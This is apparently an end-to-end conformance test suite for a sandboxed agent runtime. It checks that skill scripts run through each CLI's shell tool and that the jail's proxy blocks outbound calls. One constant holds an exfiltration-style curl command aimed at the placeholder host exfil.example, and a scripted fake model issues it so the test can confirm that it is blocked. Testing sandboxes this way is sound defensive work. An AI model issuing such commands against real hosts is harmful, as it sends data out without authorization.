"""Conformance: each genuine CLI's own shell tool, inside the butler's jail.

A butler's skills are scripts in its folder (spec 001), run by the runtime's
own shell tool: here a shell skill and a Python one, started from the
butler's folder by a bare name and by an absolute interpreter path, through
each CLI exactly as its model would ask. The jail is the only boundary: a
command that tries to reach an outside host gets the jail's proxy, which
refuses it and says so on the session's row, for every runtime.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from tests.conformance.calls import model_requests, session, trigger
from tests.conformance.conftest import Conformance
from tests.fakes.model_server import FakeModelServer, Text, ToolCall
from tests.helpers import missing_tool

pytestmark = pytest.mark.e2e

#: An interpreter by its absolute path, outside the butler's folder (a CLI may refuse those).
SYSTEM_PYTHON = "/usr/bin/python3"
#: The skills every conformance butler holds, by path in its folder.
SKILLS = {
    "skills/hello/run.sh": '#!/bin/sh\necho "hello-skill ran as $1 in $(pwd)"\n',
    "skills/greet/greet.py": (
        'import pathlib, sys\nprint(f"python-skill ran as {sys.argv[1]} in {pathlib.Path.cwd()}")\n'
    ),
}
#: One command line starting each skill every way a model would.
SKILL_RUNS = {
    "hello-skill ran as direct": "skills/hello/run.sh direct",
    "hello-skill ran as bare": "sh skills/hello/run.sh bare",
    "hello-skill ran as absolute": "/bin/sh skills/hello/run.sh absolute",
    "python-skill ran as bare": "python3 skills/greet/greet.py bare",
    "python-skill ran as absolute": f"{SYSTEM_PYTHON} skills/greet/greet.py absolute",
}
EXFIL = "curl -s -m 10 http://exfil.example/"


def shell_call(runtime: str, command: str) -> ToolCall:
    """The CLI's own shell tool called with ``command``, as its model would call it."""
    if runtime == "claude-code":
        return ToolCall("Bash", {"command": command, "description": "run it"})
    if runtime == "gemini":
        return ToolCall("run_shell_command", {"command": command, "description": "run it"})
    if runtime == "codex":
        return ToolCall("exec_command", {"cmd": command})
    return ToolCall("bash", {"command": command, "description": "run it"})  # opencode, copilot


def plant_skills(folder: Path) -> None:
    for relative, text in SKILLS.items():
        path = folder / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        path.chmod(0o755)


async def test_skills_run_through_the_clis_own_shell_from_the_butlers_folder(
    conformance: Conformance, fake_model: FakeModelServer
) -> None:
    if not os.access(SYSTEM_PYTHON, os.X_OK):
        missing_tool(SYSTEM_PYTHON)
    plant_skills(conformance.folder)
    command = "; ".join(SKILL_RUNS.values())
    fake_model.script = [shell_call(conformance.name, command), Text("Ran them.")]
    result = await trigger(conformance, "Run the skills")
    assert result["success"] is True, result["error"]
    # What the shell printed went back to the model with the tool's result.
    seen = json.dumps(model_requests(fake_model)[-1])
    where = f"in {conformance.folder}"
    ran = {marker for marker in SKILL_RUNS if f"{marker} {where}" in seen}
    assert ran == set(SKILL_RUNS), f"not run: {sorted(set(SKILL_RUNS) - ran)}; {seen[-1500:]}"


async def test_an_exfiltration_by_the_shell_reaches_the_proxy_and_is_on_the_row(
    conformance: Conformance, fake_model: FakeModelServer
) -> None:
    fake_model.script = [shell_call(conformance.name, EXFIL), Text("Done.")]
    result = await trigger(conformance, "Fetch that page")
    assert result["session_id"], result
    row = await session(conformance, result["session_id"])
    sandbox = row["metadata"].get("sandbox") or {}
    assert "exfil.example" in sandbox.get("blocked_hosts", []), (row, fake_model.requests[-1:])
